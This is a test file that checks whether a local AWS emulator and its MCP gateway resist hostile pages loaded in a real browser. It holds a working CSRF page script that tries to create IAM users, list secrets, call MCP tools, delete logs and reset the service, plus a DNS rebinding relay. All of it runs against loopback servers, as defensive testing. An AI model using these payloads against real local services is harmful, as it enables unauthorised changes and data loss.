"""Local AWS and a real browser that opens pages of other sites."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from queue import Queue
from typing import Any

import pytest

from tests.browser import Browser
from tests.support.control_plane import ControlPlane

SECONDS = 120.0
"""A browser on a busy machine; each test takes two or three seconds."""

ATTACK = """<!doctype html><title>a page</title><body><script>
const victim = "VICTIM", mcp = "MCP", tried = {};
const form = {"Content-Type": "application/x-www-form-urlencoded"};
const user = name => `Action=CreateUser&UserName=${name}&Version=2010-05-08`;
const call = JSON.stringify({jsonrpc: "2.0", id: 1, method: "tools/list"});
const fault = JSON.stringify({operation: "*", kind: "status"});
const signed = {Authorization: "AWS4-HMAC-SHA256 Credential=local/20260101/us-west-2/secretsmanager/aws4_request",
                "X-Amz-Target": "secretsmanager.ListSecrets", "Content-Type": "application/x-amz-json-1.1"};
async function attempt(name, path, options) {
  try {
    const answer = await fetch(victim + path, options);
    tried[name] = answer.type == "opaque" ? "opaque" : `${answer.status} ${await answer.text()}`;
  } catch (error) { tried[name] = "error"; }
}
const loaded = element => new Promise(done => {
  element.onload = element.onerror = done; document.body.append(element); });
(async () => {
  await attempt("read", "/_local/requests?read", {});
  await attempt("fetch of a form", "/?form", {method: "POST", body: user("form"), headers: form});
  await attempt("fetch without CORS", mcp + "?opaque", {method: "POST", body: call, mode: "no-cors"});
  await attempt("fetch of text", "/_local/faults?text", {method: "POST", body: fault});
  await attempt("fetch with a preflight", "/?preflight", {method: "POST", body: "{}", headers: signed});
  await attempt("fetch of MCP", mcp + "?json", {method: "POST", body: call, headers: {"Content-Type": "application/json"}});
  await attempt("delete", "/_local/requests?delete", {method: "DELETE"});
  await attempt("reset", "/moto-api/reset?reset", {method: "POST", mode: "no-cors"});
  await loaded(Object.assign(new Image(), {src: `${victim}/?${user("image")}&image`}));
  const frame = Object.assign(document.createElement("iframe"), {name: "frame"});
  document.body.append(frame);
  const sent = Object.assign(document.createElement("form"),
    {method: "post", action: victim + "/?sent", target: "frame"});
  for (const pair of user("sent").split("&")) {
    const [name, value] = pair.split("=");
    sent.append(Object.assign(document.createElement("input"), {name, value}));
  }
  document.body.append(sent);
  const answered = new Promise(done => frame.onload = done);
  sent.submit();
  await answered;
  await fetch("REPORT", {method: "POST", mode: "no-cors", body: JSON.stringify(tried)});
})();
</script>"""
MARKS = ("read", "form", "opaque", "text", "preflight", "json", "delete", "reset", "image", "sent")
SCRIPTED = """<!doctype html><title>a page</title>
<script>document.write("<img src='SITE/ran'>")</script><noscript><img src="SITE/quiet"></noscript>"""


class Site:
    """A web site on a loopback port of its own: serves a page, takes the page's report, remembers what it was asked."""

    def __init__(self) -> None:
        self.page = ""
        self.reports: Queue[dict[str, str]] = Queue()
        self.asked: list[str] = []
        self.images: Queue[str] = Queue()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer()

            do_POST = do_DELETE = do_OPTIONS = do_GET  # noqa: N815

            def _answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                site.asked.append(f"{self.command} {self.path}")
                if self.path == "/report":
                    site.reports.put(json.loads(body))
                if self.path in ("/ran", "/quiet"):
                    site.images.put(self.path)
                answer = site.page.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)

            def log_message(self, *_: Any) -> None:
                """Nothing on standard error."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port: int = self._server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


class Rebinding:
    """What a name of two addresses leads to: the site for the first request, local AWS for every later one."""

    def __init__(self, first: int, later: int) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        self._ports = iter([first])
        self._later = later
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._relay, args=(client,), daemon=True).start()

    def _relay(self, client: socket.socket) -> None:
        asked = client.recv(65536)
        if not asked:
            # Browsers open connections that they may never use.
            client.close()
            return
        with socket.create_connection(("127.0.0.1", next(self._ports, self._later))) as server, client:
            server.sendall(asked)
            back = threading.Thread(target=_copy, args=(server, client), daemon=True)
            back.start()
            _copy(client, server)
            back.join()

    def close(self) -> None:
        self._listener.close()


def _copy(source: socket.socket, to: socket.socket) -> None:
    try:
        while data := source.recv(65536):
            to.sendall(data)
        to.shutdown(socket.SHUT_WR)
    except OSError:
        return


@pytest.fixture
def site() -> Iterator[Site]:
    made = Site()
    yield made
    made.close()


@pytest.fixture
def gateway_path(local_aws: ControlPlane) -> str:
    """A gateway that everybody may call."""
    path = f"/gateways/{local_aws.gateway()['gatewayId']}/mcp"
    local_aws.http("DELETE", "/_local/requests")
    return path


def attack(victim: str, mcp: str, report: str) -> str:
    return ATTACK.replace("VICTIM", victim).replace("MCP", mcp).replace("REPORT", f"{report}/report")


def assert_nothing_done(local_aws: ControlPlane) -> None:
    assert local_aws.http("GET", "/_local/requests")[1] == []
    assert local_aws.http("GET", "/_local/faults")[1] == []
    made = [user["UserName"] for user in local_aws.client("iam").list_users()["Users"]]
    assert not {"form", "image", "sent"} & set(made)


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "other.example"])
def test_a_page_of_another_origin_gets_nowhere(
    local_aws: ControlPlane, gateway_path: str, site: Site, browser: Browser, name: str
) -> None:
    """Of another port of this machine, or of another site: it reads nothing, and nothing it asks for is done."""
    site.page = attack(local_aws.endpoint, gateway_path, "")
    browser(f"http://{name}:{site.port}/", rules="MAP other.example 127.0.0.1, ")
    tried = site.reports.get(timeout=SECONDS)
    opaque = {name for name, answer in tried.items() if answer == "opaque"}
    assert opaque == {"fetch without CORS", "reset"}
    assert {answer for name, answer in tried.items() if name not in opaque} == {"error"}
    assert_nothing_done(local_aws)


def test_the_same_page_reaches_a_server_that_is_not_guarded(site: Site, browser: Browser) -> None:
    """So it is the guard that keeps it out, not the browser."""
    victim = Site()
    site.page = attack(victim.url, "/mcp", "")
    browser(f"{site.url}/")
    site.reports.get(timeout=SECONDS)
    for mark in set(MARKS) - {"preflight", "json", "delete"}:
        assert [asked for asked in victim.asked if asked.endswith(mark)], mark
    assert {asked for asked in victim.asked if asked.startswith("OPTIONS")} == {
        "OPTIONS /?preflight",
        "OPTIONS /mcp?json",
        "OPTIONS /_local/requests?delete",
    }
    victim.close()


def test_a_page_whose_name_comes_to_mean_this_machine_gets_nowhere(
    local_aws: ControlPlane, gateway_path: str, site: Site, browser: Browser
) -> None:
    """DNS rebinding: to the browser the page and local AWS are one origin, but Host is the foreign name."""
    name = f"rebind.example:{local_aws.server.port}"
    site.page = attack(f"http://{name}", gateway_path, site.url)
    rebinding = Rebinding(site.port, local_aws.server.port)
    browser(f"http://{name}/", rules=f"MAP rebind.example 127.0.0.1:{rebinding.port}, ")
    tried = site.reports.get(timeout=SECONDS)
    rebinding.close()
    assert len(tried) == 8
    for attempt, answer in tried.items():
        if answer != "opaque":
            assert answer.startswith('403 {"message": "Local AWS answers programs on this machine'), attempt
    assert_nothing_done(local_aws)


def test_a_page_in_a_bucket_runs_no_script(local_aws: ControlPlane, site: Site, browser: Browser) -> None:
    """Opened from local AWS, its script would be one of local AWS's own origin."""
    s3, page = local_aws.client("s3"), SCRIPTED.replace("SITE", site.url)
    s3.create_bucket(Bucket="pages", CreateBucketConfiguration={"LocationConstraint": "us-west-2"})
    s3.put_object(Bucket="pages", Key="page", Body=page.encode(), ContentType="text/html")
    site.page = page
    browser(f"{site.url}/")
    assert site.images.get(timeout=SECONDS) == "/ran"
    browser(s3.generate_presigned_url("get_object", Params={"Bucket": "pages", "Key": "page"}))
    assert site.images.get(timeout=SECONDS) == "/quiet"
